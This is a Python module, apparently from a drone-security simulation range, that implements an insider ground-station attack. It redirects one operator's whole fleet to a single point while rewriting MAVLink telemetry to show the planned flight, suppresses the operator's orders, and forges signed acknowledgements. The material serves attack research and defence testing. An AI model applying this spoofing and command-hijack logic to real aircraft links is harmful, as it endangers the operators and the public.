"""Compromised ground station: it leads all its aircraft to one place, and shows its operator the plan.

From the start of the attack the shown aircraft moves along the uploaded mission, or to the last guided target, with
the speed that was reported. Mode, armed state and state of the mission stay what they were. Attitude, the target of the
autopilot (POSITION_TARGET_GLOBAL_INT, NAV_CONTROLLER_OUTPUT) and Remote ID stay true.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Final

import skyrange.plugin as sky
from skyrange.attack.bases.links import CopyForLink, RoundsOnLink
from skyrange.attack.bases.mavlink.compromised_sender import (
    SenderStream,
    acknowledge,
    command_of,
    redirect_order,
    station_key,
    without_signature,
)
from skyrange.attack.bases.mavlink.message_fields import put, read_fields, write_alteration
from skyrange.attack.bases.mavlink.moved_position import POSITION_MESSAGES, STILL, MovedPosition
from skyrange.attack.bases.mavlink.orders import AUTOPILOT, Leader, Sender, read
from skyrange.attack.bases.mavlink.telemetry import exclusive_messages
from skyrange.attack.contract import Place
from skyrange.attack.params import place_param
from skyrange.attack.tapped_links import MESSAGE_NUMBERS, ends_of
from skyrange.codec.mavlink import Message, message_id
from skyrange.codec.mavlink import dialect as mav
from skyrange.core import elementary, elementary_python
from skyrange.core.geodesy import Origin
from skyrange.core.time import NS_PER_S, Time

_ITEM: Final = int(mav.MAVLINK_MSG_ID_MISSION_ITEM_INT)
_TARGET: Final = int(mav.MAVLINK_MSG_ID_SET_POSITION_TARGET_GLOBAL_INT)
_ABOVE_SEA: Final = (mav.MAV_FRAME_GLOBAL, mav.MAV_FRAME_GLOBAL_INT)
_RETURN: Final = int(mav.MAV_CMD_NAV_RETURN_TO_LAUNCH)
_ARMED: Final = int(mav.MAV_MODE_FLAG_SAFETY_ARMED)
_AIRBORNE_M: Final = 1.0
_FROZEN: Final = {
    "HEARTBEAT": ("base_mode", "custom_mode", "system_status"),
    "MISSION_CURRENT": ("mission_state", "mission_mode"),
}
"""Fields that keep the value from before the attack."""
SHOWN_MESSAGES: Final = (*_FROZEN, *POSITION_MESSAGES)
"""The messages that show the flight, by name."""
_SHOWN: Final = {MESSAGE_NUMBERS[name]: name for name in SHOWN_MESSAGES}


@dataclass(slots=True)
class ShownFlight:
    """The flight that the operator's displays show."""

    origin: Origin
    home: Place
    system: int
    """System id of the aircraft."""
    speed_mps: float = 1.0
    """Greatest speed that was reported before the attack, at least 1 m/s."""
    items: dict[int, Place] = field(default_factory=dict)
    """Places of the mission by item, as the station uploaded them."""
    goal: Place | None = None
    """The last guided target."""
    item: int = 0
    """The item that the shown aircraft flies to."""
    place: Place | None = None
    """Where the shown aircraft is, metres from the origin; before the attack the reported place."""
    since_ns: Time = -1
    airborne: bool = False
    armed: bool = False
    frozen: dict[tuple[str, str], int] = field(default_factory=dict)
    position: MovedPosition = field(init=False)

    def __post_init__(self) -> None:
        self.position = MovedPosition(self.origin, STILL, STILL, None)

    def learn(self, payload: bytes) -> None:
        """Learn the plan from a frame of the station."""
        if message_id(payload) not in (_ITEM, _TARGET):
            return
        message = read(payload)
        if message is None:
            return
        if message.get_msgId() == _TARGET:
            self.goal = self._place_of(message.coordinate_frame, message.lat_int, message.lon_int, message.alt)
        elif message.mission_type == mav.MAV_MISSION_TYPE_MISSION:
            self._learn_item(message)

    def _learn_item(self, message: Message) -> None:
        if message.seq <= 1:  # a new upload
            self.items = {seq: place for seq, place in self.items.items() if seq < message.seq}
        if message.command == _RETURN:
            height_m = self.items[max(self.items)][2] if self.items else self.home[2]
            self.items[message.seq] = (self.home[0], self.home[1], height_m)
        elif message.seq and (message.x or message.y):
            self.items[message.seq] = self._place_of(message.frame, message.x, message.y, message.z)

    def _place_of(self, frame: int, lat_e7: int, lon_e7: int, height_m: float) -> Place:
        east, north = self.origin.enu_of(lat_e7 * 1e-7, lon_e7 * 1e-7)
        up = height_m - self.origin.alt_msl_m if frame in _ABOVE_SEA else self.home[2] + height_m
        return (east, north, up)

    def rewrite(self, payload: bytes, since_ns: Time, *, sham: bool) -> bytes | None:
        """The frame of telemetry that is shown instead, without a signature; `None` where it stays as it is."""
        number = message_id(payload)
        plain = without_signature(payload) if number in _SHOWN else None
        fields = None if plain is None or number is None else read_fields(plain, number)
        if plain is None or number is None or fields is None or plain[5:7] != bytes((self.system, AUTOPILOT)):
            return None
        true = fields.copy()
        return (
            write_alteration(plain, number, true, fields, sham=sham)
            if self.alter(_SHOWN[number], fields, since_ns)
            else None
        )

    def alter(self, message: str, fields: Any, since_ns: Time) -> bool:
        """Write into the fields of a message; returns whether it is one to replace.

        `since_ns` counts from the start of the attack. Before it this learns, and nothing is to be replaced.
        """
        acts = since_ns >= 0
        for name in _FROZEN.get(message, ()):
            if not acts:
                self.frozen[message, name] = int(fields[name])
            elif (message, name) in self.frozen:
                put(fields, name, self.frozen[message, name])
        if message == "HEARTBEAT":
            self.armed = bool(fields["base_mode"] & _ARMED)
            return acts
        if message == "MISSION_CURRENT":
            if acts and self.item:
                put(fields, "seq", self.item)
            elif not acts:
                self.item = int(fields["seq"])
            return acts
        if message == "GLOBAL_POSITION_INT":
            self._advance(since_ns, fields)
        self.position.at = self.place if acts else None
        return self.position.alter(message, fields, 0) and acts

    def _advance(self, since_ns: Time, fields: Any) -> None:
        """Move the shown aircraft; before the attack it is where it was reported."""
        if since_ns < 0 or self.place is None:
            east, north = self.origin.enu_of(fields["lat"] * 1e-7, fields["lon"] * 1e-7)
            self.place = (east, north, fields["alt"] * 1e-3 - self.origin.alt_msl_m)
            self.airborne = self.armed and fields["relative_alt"] * 1e-3 > _AIRBORNE_M
            speed = elementary.hypot3(fields["vx"], fields["vy"], fields["vz"]) * 1e-2
            self.speed_mps = max(self.speed_mps, speed)
            self.since_ns = max(since_ns, 0)
            return
        left_m = self.speed_mps * (since_ns - self.since_ns) / NS_PER_S
        self.since_ns = since_ns
        self.position.rate_mps = STILL
        while left_m > 0 and self.airborne and (goal := self._goal()) is not None:
            gap_m = elementary_python.distance(self.place, goal)
            if gap_m <= left_m:
                left_m -= gap_m
                self.place = goal
                if not self._next():
                    return
                continue
            share = left_m / gap_m
            here = self.place
            self.place = tuple(a + (b - a) * share for a, b in zip(here, goal, strict=True))  # type: ignore[assignment]
            rate = tuple((b - a) / gap_m * self.speed_mps for a, b in zip(here, goal, strict=True))
            self.position.rate_mps = (rate[0], rate[1], rate[2])
            return

    def _goal(self) -> Place | None:
        if not self.items:
            return self.goal
        later = [seq for seq in self.items if seq >= self.item]
        return self.items[min(later)] if later else None

    def _next(self) -> bool:
        """Go on to the next item of the mission; `False` at its end, and at a guided target."""
        later = [seq for seq in self.items if seq > self.item]
        if later:
            self.item = min(later)
        return bool(later)


@sky.attack(
    "ground.insider",
    technique="T0831",
    intrudes=True,
    surface=("gcs",),
    persists="mode",
    effect="the whole fleet meets at one place, its operator sees it fly the plan, and no signature fails",
    knowledge="the plans that the station uploads and the telemetry that it receives",
    position="within the ground station: a malicious operator or program, or a remote access to the computer",
    equipment="the station itself, with its links, its system id and its signing key",
    budget="two frames per second and aircraft; all telemetry with a position or a mode is rewritten",
    load="the sham: as many frames of the same lengths, which change nothing, and telemetry as it is",
    content="a place on the plan of each aircraft",
    placement="the station of another operator",
)
class Insider(RoundsOnLink):
    """Has a ground station lead all its aircraft to one place, while its displays show the plan.

    Its program is within the station: it sends in the station's own stream of frames, with the station's own sequence
    numbers and key, so system ids, signatures and sources prove nothing against it. It answers the operator's orders
    itself, and rewrites telemetry before the station's software reads it. The sham sends as many frames, which change
    nothing, and lets the operator's orders and telemetry be.
    """

    operator: str = sky.param("Operator whose ground station is compromised, such as 'blue'.")
    at: sky.Enu = place_param("Place that all aircraft of the operator are led to")
    every_s: sky.Number = sky.param(
        "Time between two targets for each aircraft, in seconds.", default=0.5, ge=0.1, le=10
    )
    fleet: dict[str, sky.Aircraft]
    origin: sky.Origin
    leader: Leader
    shown: ShownFlight
    up: SenderStream
    down: SenderStream
    answers: sky.MavlinkPacker
    """Makes acknowledgements in the name of the aircraft."""

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """A tap at the station on each link. Raises `InputError` for an operator that is not in the scenario."""
        self.origin = context.origin
        self.fleet = {
            name: aircraft for name, aircraft in context.vehicles.items() if sky.operator_of(name) == self.operator
        }
        if not self.fleet:
            operators = sorted({sky.operator_of(vehicle) for vehicle in context.vehicles})
            hint = sky.nearest(self.operator, operators)
            raise sky.InputError.one(context.id, "operator", self.operator, "an operator of the scenario", hint)
        links, make = [sky.link_name("gcs", vehicle) for vehicle in self.fleet], CopyForLink(self)
        exclusive = [sky.Exclusive(f"ground station of {self.operator}")]
        exclusive += [exclusive_messages(link, "rev", SHOWN_MESSAGES) for link in links]
        taps = [sky.TapPlacement(link, "gcs", make) for link in links]
        return sky.Attack(taps=taps, shown={"meeting point": self.at}, exclusive=exclusive)

    def begin(self) -> None:
        """Take the aircraft on the link, and the key of the station."""
        super().begin()
        aircraft = self.fleet[self.link.partition(":")[2]]
        secret = station_key(self.chance.seed, self.operator)
        self.up, self.down = SenderStream(secret), SenderStream(secret)
        self.answers = sky.MavlinkPacker(aircraft.system_id, AUTOPILOT)
        sender = Sender(sky.MavlinkPacker(*sky.STATION), aircraft.system_id, claims_station=True, is_sham=self.sham)
        self.leader = Leader(sender, self.schedule, self.origin, (self.at,), within_m=1.0)
        self.shown = ShownFlight(self.origin, aircraft.start_enu_m, aircraft.system_id)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Hold back the operator's orders, and alter telemetry."""
        self.leader.see(now, frame)
        acts, payload = self.is_acting(now), frame.payload
        if frame.direction == "fwd":
            self.shown.learn(payload)
            order = redirect_order(payload, sham=self.sham) if acts else None
            return _replace(payload, self.up.forward(payload)) if order is None else self._hold_back(payload, order)
        content = self.shown.rewrite(payload, now - self.schedule.start_ns, sham=self.sham)
        sent = self.down.forward(payload, content if acts else None)
        return [sky.Replace(sent)] if acts and content is not None else _replace(payload, sent)

    def send(self, now: sky.Time) -> sky.Verdicts:
        """The target, after a change of mode where one is needed."""
        return [self.inject(self.up.add(self.leader.sender.pack(order))) for order in self.leader.orders(now)]

    def _hold_back(self, payload: bytes, order: bytes) -> sky.Verdicts:
        """Send an order of the operator to nobody, and acknowledge its command."""
        verdicts: list[sky.Verdict] = [sky.Replace(self.up.forward(payload, order))]
        command = command_of(payload)
        if command is not None:
            answer = self.down.add(self.answers.pack(acknowledge(command, sham=self.sham)))
            verdicts.append(sky.Inject(answer, "rev", *ends_of(self.link, "rev")))
        return verdicts


def _replace(payload: bytes, sent: bytes) -> sky.Verdicts:
    return [] if sent == payload else [sky.Replace(sent)]
